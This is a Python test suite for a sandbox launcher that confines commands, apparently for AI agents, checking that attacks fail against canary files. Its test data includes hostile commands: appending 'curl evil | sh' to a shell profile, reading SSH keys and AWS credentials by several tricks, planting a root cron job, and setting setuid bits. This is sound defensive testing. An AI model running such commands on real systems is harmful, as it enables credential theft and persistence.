"""The sandbox launcher, by effect: real commands against canaries in a throwaway home.

Each attack runs through ``agentbus sandbox`` and must fail and leave its canary
as it was; each check also runs the same command unconfined where that is safe,
so the test would fail if the sandbox stopped confining. When the suite runs as
root (CI does), every test also runs as the unprivileged user ``nobody``: root
bypasses file permissions, Landlock and the namespaces confine it anyway.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentbus.guards import _bubblewrap, _landlock, _seccomp
from agentbus.guards._seatbelt import profile
from agentbus.guards.sandbox import (
    LAUNCHER,
    REFUSED,
    Capabilities,
    Policy,
    SandboxUnavailable,
    parse,
    plan,
    read_grants,
    sensitive_paths,
)
from agentbus.middleware.sandbox import probe_launcher

ABI = _landlock.abi_version()
# Asked of the launcher in a new process: probing forks, which a threaded process should not.
_PROBED = probe_launcher()
CAPABILITIES = _PROBED if isinstance(_PROBED, Capabilities) else None
needs_landlock = pytest.mark.skipif(
    ABI == 0, reason="this kernel has no Landlock (Linux 5.13+ with landlock in the lsm= boot list)"
)
needs_seccomp = pytest.mark.skipif(not _seccomp.supported(), reason="no seccomp filter for this machine")
needs_namespaces = pytest.mark.skipif(
    CAPABILITIES is None or not CAPABILITIES.namespaces,
    reason="unprivileged user and network namespaces are disabled here",
)
NOBODY = 65534
USERS = ["self", "nobody"] if os.geteuid() == 0 else ["self"]
BWRAP = _bubblewrap.find()
MECHANISMS = [
    pytest.param("landlock", marks=needs_landlock),
    pytest.param(
        "bubblewrap", marks=pytest.mark.skipif(BWRAP is None, reason="bubblewrap (bwrap) is not installed")
    ),
]

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- canary"
BASHRC = "# the user's own bashrc\n"


class Box:
    """A throwaway home with canaries, a project, a temporary directory, and the launcher."""

    def __init__(self, root: Path, user: str, mechanism: str) -> None:
        self.mechanism = mechanism
        self.root = root
        self.home = root / "home"
        self.project = root / "project"
        self.tmp = root / "tmp"
        self.outside = root / "outside"
        for directory in (self.home / ".ssh", self.project, self.tmp, self.outside):
            directory.mkdir(parents=True)
        (self.home / ".bashrc").write_text(BASHRC)
        (self.home / ".ssh" / "id_rsa").write_text(SECRET)
        (self.home / ".aws").mkdir()
        (self.home / ".aws" / "credentials").write_text("aws_secret_access_key = canary")
        (self.outside / "notes.txt").write_text("outside canary")
        self.user = user
        self.python, self.launcher, self.scan = sys.executable, LAUNCHER, ["--mechanism", mechanism]
        if user == "nobody":
            # nobody may not be able to read this checkout or this venv's Python: it runs a
            # copy of the launcher (standard library only) with the system's Python, and is
            # handed the sensitive paths, as the bus hands them.
            copy = root / "launcher" / "agentbus" / "guards"
            shutil.copytree(Path(LAUNCHER).parent, copy, ignore=shutil.ignore_patterns("__pycache__"))
            self.launcher = str(copy / "_launch.py")
            self.python = _system_python()
            self.scan += ["--no-scan", *(f"--deny-read={path}" for path in sensitive_paths([str(self.home)]))]
            for path in [root, *root.rglob("*")]:
                os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
            os.chmod(root, 0o755)

    def works(self, *options: str) -> None:
        """A harmless command runs with these options: a failure next to it is the sandbox's doing."""
        done = self.run("echo fine > fine.txt && cat fine.txt", *options)
        assert (done.returncode, done.stdout) == (0, "fine\n"), done.stderr

    def env(self) -> dict[str, str]:
        return {
            "HOME": str(self.home),
            "PATH": os.environ["PATH"],
            "TMPDIR": str(self.tmp),
            "LANG": "C.UTF-8",
        }

    def run(
        self,
        command: str,
        *options: str,
        confined: bool = True,
        timeout: float = 60,
        own_tmp: bool = True,
        env: dict[str, str] | None = None,
        prefix: tuple[str, ...] = (),
        pass_fds: tuple[int, ...] = (),
        stdin: int | None = None,
    ) -> subprocess.CompletedProcess[str]:
        """``command`` in ``bash -c``, confined with ``options``. ``own_tmp``: the box's
        temporary directory is writable (``--no-tmp --write TMP``); without it the
        launcher's default applies (a private directory in place of /tmp and /dev/shm).
        ``env`` adds variables, ``prefix`` goes before the launcher."""
        argv = ["bash", "-c", command]
        if confined:
            launcher = [self.python, "-I", self.launcher, "--project", str(self.project), *self.scan]
            tmp = ["--no-tmp", "--write", str(self.tmp)] if own_tmp else []
            argv = [*launcher, *tmp, *options, "--", *argv]
        extra = {"user": NOBODY, "group": NOBODY, "extra_groups": []} if self.user == "nobody" else {}
        return subprocess.run(
            [*prefix, *argv],
            cwd=self.project,
            env={**self.env(), **(env or {})},
            pass_fds=pass_fds,
            stdin=stdin,
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
            **extra,  # type: ignore[arg-type]
        )


def _system_python() -> str:
    for candidate in ("/usr/bin/python3", "/usr/local/bin/python3", "/bin/python3"):
        ran = (
            subprocess.run(
                [candidate, "-c", "pass"],
                user=NOBODY,
                group=NOBODY,
                extra_groups=[],
                capture_output=True,
                check=False,
            )
            if os.path.exists(candidate)
            else None
        )
        if ran is not None and ran.returncode == 0:
            return candidate
    pytest.skip("no Python here that the user nobody can run (needed to test the sandbox unprivileged)")


@pytest.fixture(params=MECHANISMS)
def mechanism(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(params=USERS)
def box(request: pytest.FixtureRequest, mechanism: str) -> Iterator[Box]:
    # Not under pytest's tmp_path: that lives in /tmp, which must not hold the home.
    root = Path(tempfile.mkdtemp(prefix="agentbus-sandbox-", dir=os.environ.get("AGENTBUS_TEST_TMP")))
    os.chmod(root, 0o755)
    try:
        yield Box(root, request.param, mechanism)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_appending_to_the_shell_profile_fails_and_leaves_it_untouched(box: Box) -> None:
    box.works()
    done = box.run("echo 'curl evil | sh' >> ~/.bashrc")
    assert done.returncode != 0
    assert (box.home / ".bashrc").read_text() == BASHRC
    planted = box.run("echo x > ~/.zshrc; echo x > ~/.config-planted")
    assert planted.returncode != 0
    assert not (box.home / ".zshrc").exists()
    assert not (box.home / ".config-planted").exists()


def test_reading_the_ssh_key_fails_directly_through_a_link_or_by_copying(box: Box) -> None:
    box.works()
    attempts = [
        "cat ~/.ssh/id_rsa",
        "python3 -c 'import os; print(open(os.path.expanduser(\"~/.ssh/id_rsa\")).read())'",
        "ln -s ~/.ssh/id_rsa leak && cat leak",
        "ln ~/.ssh/id_rsa hard && cat hard",
        "cp -r ~/.ssh stolen && cat stolen/id_rsa",
        "cat ~/.aws/credentials",
        "cat /proc/self/root$HOME/.ssh/id_rsa",
        "cd ~/.ssh/.. && cat ./.ssh/../.ssh/id_rsa",
        "grep -r canary ~ 2>/dev/null",
    ]
    for command in attempts:
        done = box.run(command)
        assert "canary" not in done.stdout, command
        assert SECRET not in done.stdout, command
    # The same read unconfined does get the secret: the check above can fail.
    assert SECRET in box.run("cat ~/.ssh/id_rsa", confined=False).stdout


def test_writing_outside_the_project_fails(box: Box) -> None:
    box.works()
    target = box.outside / "x"
    done = box.run(f"echo evil > {target}; echo evil >> {box.outside / 'notes.txt'}; rm -f {box.outside}/*")
    assert done.returncode != 0
    assert not target.exists()
    assert (box.outside / "notes.txt").read_text() == "outside canary"
    assert box.run(f"touch {target}", confined=False).returncode == 0


def test_writing_a_cron_job_fails(box: Box) -> None:
    cron = Path("/etc/cron.d") if Path("/etc/cron.d").is_dir() else Path("/etc")
    target = cron / f"agentbus-canary-{os.getpid()}"
    box.works()
    try:
        done = box.run(f"echo '* * * * * root sh /tmp/x' > {target}")
        assert done.returncode != 0
        assert not target.exists()
    finally:
        if target.exists():
            target.unlink()


class Server:
    """A TCP server on 127.0.0.1 in this process that counts the connections it accepts."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def settled(self, expected: int = 1) -> int:
        """The count once the accept loop has caught up: it reached ``expected`` (or 30 s
        passed), and one more round of the loop found nothing more queued."""
        deadline = time.monotonic() + 30
        while self.accepted < expected and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.5)
        return self.accepted

    def close(self) -> None:
        self.stopped.set()
        self.thread.join()
        self.socket.close()


@pytest.fixture
def server() -> Iterator[Server]:
    running = Server()
    try:
        yield running
    finally:
        running.close()


def _connect(port: int) -> str:
    return f"python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=5)'"


@pytest.mark.parametrize("network", ["off", pytest.param("loopback", marks=needs_namespaces)])
def test_connecting_to_a_local_server_fails_when_the_network_is_off(
    box: Box, server: Server, network: str
) -> None:
    box.works("--network", network)
    done = box.run(_connect(server.port), "--network", network)
    assert done.returncode != 0
    assert server.accepted == 0
    # With the network on the same command connects: the check above can fail.
    assert box.run(_connect(server.port), "--network", "on").returncode == 0
    assert server.settled() == 1  # the one allowed connection, and not the refused one


@pytest.mark.skipif(ABI < 4, reason=f"TCP port rules need Landlock ABI 4; this kernel has ABI {ABI}")
def test_only_allowed_ports_connect(box: Box, server: Server) -> None:
    if box.mechanism == "bubblewrap":
        refused = box.run(_connect(server.port), "--network", "ports", "--allow-port", str(server.port))
        assert refused.returncode == REFUSED
        assert "cannot allow single TCP ports" in refused.stderr
        return
    assert box.run(_connect(server.port), "--network", "ports", "--allow-port", "1").returncode != 0
    assert server.accepted == 0
    allowed = box.run(_connect(server.port), "--network", "ports", "--allow-port", str(server.port))
    assert allowed.returncode == 0, allowed.stderr
    assert server.settled() == 1


@needs_namespaces
def test_a_private_loopback_serves_the_projects_own_servers(box: Box) -> None:
    script = (
        "import socket; server = socket.create_server(('127.0.0.1', 0)); "
        "socket.create_connection(server.getsockname(), timeout=5); print('connected')"
    )
    done = box.run(f'python3 -c "{script}"', "--network", "loopback")
    assert done.stdout.strip() == "connected", done.stderr


@needs_seccomp
def test_setuid_bits_cannot_be_set(box: Box) -> None:
    box.works()
    attempts = [
        "cp /bin/sh ./shell && chmod u+s ./shell",
        "chmod 4755 ./shell",
        "chmod g+s ./shell",
        "python3 -c 'import os; os.close(os.open(\"made\", os.O_CREAT | os.O_WRONLY, 0o4755))'",
        "install -m 4755 /bin/sh ./installed",
    ]
    for command in attempts:
        box.run(command)
    for name in ("shell", "made", "installed"):
        path = box.project / name
        if path.exists():
            assert not path.stat().st_mode & (stat.S_ISUID | stat.S_ISGID), name
    assert (box.project / "shell").exists()  # the copy itself was allowed
    box.run("chmod u+s ./shell", confined=False)
    assert (box.project / "shell").stat().st_mode & stat.S_ISUID  # unconfined it works


@needs_seccomp
def test_file_capabilities_cannot_be_set(box: Box) -> None:
    box.works()
    (box.project / "f").write_text("x")
    done = box.run('python3 -c \'import os; os.setxattr("f", "user.x", b"1")\'')
    assert done.returncode != 0
    assert "Operation not supported" in done.stderr


def test_building_and_testing_a_small_project_works(box: Box) -> None:
    script = """
set -e
mkdir -p src tests
printf 'def add(a, b):\\n    return a + b\\n' > src/calc.py
cat > tests/test_calc.py <<'EOF'
import sys, unittest
sys.path.insert(0, "src")
from calc import add


class T(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 3), 5)
EOF
python3 -m unittest discover -s tests -q
python3 -c 'import tempfile; f = tempfile.NamedTemporaryFile(); f.write(b"x"); print("tmp ok")'
git init -q .
git add .
git -c user.name=agent -c user.email=agent@example.invalid commit -qm 'first'
git log --oneline | wc -l
ls -la ~ > /dev/null
echo done > build.log
"""
    done = box.run(script)
    assert done.returncode == 0, done.stderr
    assert "tmp ok" in done.stdout
    assert (box.project / ".git").is_dir()
    assert (box.project / "build.log").read_text() == "done\n"


def test_the_command_learns_what_confines_it(box: Box) -> None:
    parts = box.run('echo "$AGENTBUS_SANDBOX"').stdout.strip().split(" + ")
    assert parts[0] == (f"landlock ABI {ABI}" if box.mechanism == "landlock" else "bubblewrap")
    assert parts[-1] == "no_new_privs"


def test_no_capabilities_and_no_signals_outside(box: Box) -> None:
    box.works()
    capabilities = box.run("grep ^CapEff /proc/self/status").stdout.split()
    assert capabilities == ["CapEff:", "0" * 16]
    outside = subprocess.Popen(["sleep", "60"])
    try:
        killer = box.run(f"kill -TERM {outside.pid}")
        if box.mechanism == "landlock" and ABI < 6 and box.user == "self":
            pytest.skip(f"signals are scoped to the sandbox from Landlock ABI 6; this kernel has {ABI}")
        assert killer.returncode != 0
        assert outside.poll() is None  # still running
        if box.user == "self":  # unconfined, the same user can signal it: the check above can fail
            assert box.run(f"kill -0 {outside.pid}", confined=False).returncode == 0
    finally:
        outside.kill()
        outside.wait()


def test_the_command_exit_status_and_output_pass_through(box: Box) -> None:
    done = box.run("echo out; echo err >&2; exit 7")
    assert (done.returncode, done.stdout, done.stderr) == (7, "out\n", "err\n")


def test_a_missing_mechanism_refuses_and_runs_nothing(box: Box) -> None:
    done = box.run("touch ran", "--mechanism", "seatbelt")
    assert done.returncode == REFUSED
    assert "refusing to run" in done.stderr
    assert not (box.project / "ran").exists()


def test_a_project_that_holds_the_home_directory_is_refused(box: Box) -> None:
    argv = [
        box.python,
        "-I",
        box.launcher,
        "--project",
        str(box.root),
        "--no-tmp",
        *box.scan,
        "--",
        "touch",
        "ran",
    ]
    done = subprocess.run(argv, env=box.env(), capture_output=True, text=True, check=False)
    assert done.returncode == REFUSED
    assert "home directory" in done.stderr or "sensitive path" in done.stderr
    assert not (box.root / "ran").exists()


def test_nothing_to_confine_with_refuses_unless_best_effort() -> None:
    policy = Policy("/srv/p", ["/srv/p"], [])
    with pytest.raises(SandboxUnavailable, match="nothing on this platform"):
        plan(policy, Capabilities("plan9"))
    with pytest.raises(SandboxUnavailable, match="ABI 4"):
        plan(
            Policy("/srv/p", ["/srv/p"], [], network="ports", ports=[443]),
            Capabilities("linux", landlock_abi=3),
        )
    with pytest.raises(SandboxUnavailable, match="loopback"):
        plan(Policy("/srv/p", ["/srv/p"], [], network="loopback"), Capabilities("linux", landlock_abi=7))


def test_read_grants_cover_everything_but_the_denied_paths(tmp_path: Path) -> None:
    (tmp_path / "a" / "secret").mkdir(parents=True)
    (tmp_path / "a" / "open").mkdir()
    (tmp_path / "a" / "key.pem").write_text("x")
    (tmp_path / "b").mkdir()
    grants = set(read_grants([str(tmp_path / "a" / "secret"), str(tmp_path / "a" / "key.pem")]))
    assert str(tmp_path / "a" / "open") in grants
    assert str(tmp_path / "b") in grants
    assert not any(grant.startswith(str(tmp_path / "a" / "secret")) for grant in grants)
    assert str(tmp_path / "a" / "key.pem") not in grants
    assert str(tmp_path / "a") not in grants
    assert str(tmp_path) not in grants


def test_options_parse_like_the_help_says() -> None:
    args = parse(
        [
            "--project",
            "p",
            "--write=/w",
            "--write",
            "/v",
            "--network",
            "ports",
            "--allow-port",
            "443",
            "--",
            "ls",
            "-la",
        ]
    )
    assert (args.project, args.write, args.network, args.allow_port, args.command) == (
        "p", ["/w", "/v"], "ports", ["443"], ["ls", "-la"]
    )  # fmt: skip
    assert parse(["make", "--network", "on"]).command == ["make", "--network", "on"]


def test_the_command_line_prints_the_probe_and_the_plan(tmp_path: Path) -> None:
    agentbus = [sys.executable, "-c", "import sys; from agentbus.cli import main; sys.exit(main())"]
    probed = subprocess.run([*agentbus, "sandbox", "--probe"], capture_output=True, text=True, check=True)
    found = json.loads(probed.stdout)
    assert found["platform"] == ("linux" if sys.platform.startswith("linux") else found["platform"])
    assert found["landlock_abi"] == ABI
    options = [
        "--dry-run",
        "--no-scan",
        "--no-tmp",
        "--project",
        str(tmp_path),
        "--deny-read",
        "/nonexistent/key.pem",
    ]
    dry = subprocess.run([*agentbus, "sandbox", *options], capture_output=True, text=True, check=False)
    if found["mechanism"] is None:
        assert dry.returncode == REFUSED
        return
    shown = json.loads(dry.stdout)
    assert shown["policy"]["project"] == os.path.realpath(tmp_path)
    assert shown["policy"]["deny_read"] == ["/nonexistent/key.pem"]
    assert shown["confined_by"][-1] == "no_new_privs"
    helped = subprocess.run([*agentbus, "sandbox", "--help"], capture_output=True, text=True, check=True)
    assert "--network" in helped.stdout


def test_the_macos_profile_says_the_policy() -> None:
    writable = ["/Users/me/app", "/private/tmp"]
    policy = Policy(
        writable[0], writable, ["/Users/me/.ssh", '/Users/me/we"ird'], network="ports", ports=[443]
    )
    text = profile(policy)
    lines = text.splitlines()
    assert lines[:3] == ["(version 1)", "(allow default)", "(deny file-write*)"]
    assert '(subpath "/Users/me/app") (subpath "/private/tmp")' in lines[3]
    assert lines[3].startswith("(allow file-write* ")
    assert (
        lines[4] == '(deny file-read* file-write* (subpath "/Users/me/.ssh") (subpath "/Users/me/we\\"ird"))'
    )
    assert "(deny file-write-setugid)" in lines
    assert lines.index("(deny network*)") < lines.index('(allow network-outbound (remote tcp "*:443"))')
    assert "(deny network*)" in profile(Policy("/p", ["/p"], [], network="off")).splitlines()
    assert "(deny network*)" not in profile(Policy("/p", ["/p"], [], network="on"))
